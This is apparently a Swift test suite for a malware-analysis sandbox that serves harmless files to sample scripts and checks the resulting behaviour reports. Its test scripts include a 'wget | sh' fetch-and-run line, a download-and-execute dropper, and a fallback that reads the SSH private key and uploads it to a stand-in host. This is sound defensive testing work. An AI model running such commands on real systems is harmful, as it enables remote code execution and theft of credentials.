import Crypto
import Foundation
import Petri
import PetriModel
import PetriNet
import Testing

/// Served by requester (issue 16, "both sides of a download"): real clients in the sandbox ask the
/// simulated internet for a tar.gz, an untyped name through `wget | sh`, a ZIP they never open and a
/// JSON API; each gets a harmless file of the type asked for, the record says what was served and
/// why, and whether the sample ran it.
@Suite("network: served by requester", .serialized)
struct NetworkServedTests {
    static func sha(_ b: [UInt8]) -> String { SHA256.hash(data: b).map { String(format: "%02x", $0) }.joined() }

    @Test("tar.gz unpacked and run, wget | sh, a zip left alone, JSON over HTTPS: what was served, why, and what ran")
    func servedByWhatWasAskedFor() throws {
        guard NetworkTLSTests.tool("/usr/bin/curl", "curl"), NetworkTLSTests.tool("/usr/bin/wget", "wget") else { return }
        let run = try NetworkTLSTests.analyze("served", """
            #!/bin/sh
            cd /tmp
            curl -sS -m 8 -o t.tgz http://dl.example/tools/kit.tar.gz && tar xzf t.tgz && ./payload
            wget -q -T 8 -O - https://get.example/install | sh
            curl -sS -m 8 -o k.zip http://dl.example/tools/kit.zip
            python3 -c 'import json, urllib.request as u; r = u.Request("https://api.example/v1/tasks", headers={"Accept": "application/json"}); print("api status", json.load(u.urlopen(r, timeout=8))["status"])'

            """)
        let r = run.report
        let http = r.network.http
        let tgz = try #require(http.first { $0.path == "/tools/kit.tar.gz" }, "\(http.map(\.url))")
        #expect(tgz.response == "payload:builtin-tar.gz" && tgz.servedReason?.contains("name ends in .tar.gz") == true, "\(tgz)")
        #expect(tgz.responseSha256 == Self.sha(HTTPResponder.bytes(.tarGz)))
        #expect(tgz.servedExecuted == true, "the unpacked program ran")
        #expect(r.files.contains { $0.path == "/tmp/payload" && $0.sha256 == Self.sha(HarmlessELF.bytes) })
        #expect(r.output.stdoutPreview.contains("petri simulated payload (elf): nothing to see"), "\(r.output.stdoutPreview)")

        let sh = try #require(http.first { $0.host == "get.example" && $0.path == "/install" })
        #expect(sh.tls == true && sh.response == "payload:builtin-sh-page" && sh.servedReason?.contains("Wget") == true, "\(sh)")
        #expect(r.output.stdoutPreview.contains("petri simulated payload: nothing to see"), "the piped script ran")

        let zip = try #require(http.first { $0.path == "/tools/kit.zip" })
        #expect(zip.response == "payload:builtin-zip" && zip.servedExecuted == false, "downloaded, never opened: \(zip)")

        let api = try #require(http.first { $0.host == "api.example" })
        #expect(api.response == "json" && api.servedReason?.contains("Accept: application/json") == true && api.tls == true)
        #expect(r.output.stdoutPreview.contains("api status ok"))
        // The report shows the download-and-run chain.
        #expect(r.behaviours.contains { $0.id == "downloads-and-executes" }, "\(r.behaviours.map(\.id))")
    }

    /// The two-branch dropper of the issue: it runs its downloaded stage when the download works and
    /// falls back to stealing SSH keys when it does not. One pass shows one branch; the second pass
    /// (downloads refused) shows the other, merged into one report.
    @Test("two-branch dropper: the first pass runs the download, the second (downloads refused) the fallback theft; merged, counted once")
    func secondPassShowsTheOtherBranch() throws {
        guard NetworkTLSTests.tool("/usr/bin/curl", "curl") else { return }
        let script = """
            #!/bin/sh
            cd /tmp
            if curl -sf -m 8 -o stage2 http://update.example/bins/stage2.elf && chmod +x stage2 && ./stage2; then
              echo "stage two ran"
            else
              echo "download unusable: falling back"
              cat "$HOME/.ssh/id_rsa" > /tmp/.k 2>/dev/null
              curl -s -m 8 --data-binary @/tmp/.k http://drop.example/k
            fi

            """
        let run = try NetworkTLSTests.analyze("twobranch", script)
        let r = run.report
        let get = try #require(r.network.http.first { $0.path == "/bins/stage2.elf" })
        #expect(get.response == "payload:builtin-elf" && get.servedExecuted == true)
        #expect(r.output.stdoutPreview.contains("stage two ran"), "the first pass took the download branch")
        let second = try #require(r.secondPass, "a run download calls for a second pass")
        #expect(second.reason.contains("http://update.example/bins/stage2.elf") && second.answer.contains("refused"))
        #expect(second.http.contains { $0.contains("/bins/stage2.elf -> 404 refused:elf") }, "\(second.http)")
        #expect(second.http.contains { $0.contains("POST http://drop.example/k") }, "the fallback uploaded: \(second.http)")
        // Its own report exists and shows the other branch.
        let pass2 = try ReportJSON.decode(Data(contentsOf: URL(fileURLWithPath: run.artifacts + "/" + second.report)))
        #expect(pass2.output.stdoutPreview.contains("download unusable: falling back"))
        #expect(pass2.secondPass == nil && pass2.network.http.allSatisfy { !$0.response.hasPrefix("payload:") })
        // Merged: the download chain from pass 1, the key theft from pass 2 only, each counted once.
        let ids = r.behaviours.map(\.id)
        #expect(Set(ids).count == ids.count)
        let theft = try #require(r.behaviours.first { $0.id == "reads-ssh-keys" }, "\(r.behaviours.map { "\($0.id) \($0.passes ?? [])" })")
        #expect(theft.passes == [2] && second.newBehaviours.contains("reads-ssh-keys"))
        let chain = try #require(r.behaviours.first { $0.id == "downloads-and-executes" })
        #expect(chain.passes == [1])
        #expect(r.behaviours.allSatisfy { $0.passes != nil })
        // Contributions are rounded one by one: their sum is the score within that rounding.
        #expect(abs(r.behaviours.map(\.contribution).reduce(0, +) - (r.score?.value ?? -1)) <= 0.01 * Double(r.behaviours.count))

        // --passes 1: no second pass.
        let dir = TestPrograms.tempDir("onepass")
        try script.write(toFile: dir + "/s.sh", atomically: true, encoding: .utf8)
        chmod(dir + "/s.sh", 0o755)
        var o = Analysis.Options(profile: try Fixtures.profile())
        o.networkMode = "sinkhole"; o.timeoutSeconds = 25; o.passes = 1
        o.artifactsDirectory = dir + "/art"; o.reportPath = dir + "/report.json"
        let one = try Analysis.run(samplePath: dir + "/s.sh", options: o).report
        #expect(one.secondPass == nil && one.behaviours.allSatisfy { $0.passes == nil })
        #expect(!one.behaviours.contains { $0.id == "reads-ssh-keys" })
    }

    @Test("no second pass when nothing served was run")
    func noSecondPassWithoutARunDownload() throws {
        let run = try NetworkTLSTests.analyze("nodl", """
            #!/bin/sh
            curl -s -m 8 -o /tmp/kit.zip http://dl.example/kit.zip
            curl -s -m 8 http://www.example/index.html >/dev/null

            """)
        #expect(run.report.network.http.contains { $0.response == "payload:builtin-zip" && $0.servedExecuted == false })
        #expect(run.report.secondPass == nil && run.report.behaviours.allSatisfy { $0.passes == nil })
    }
}
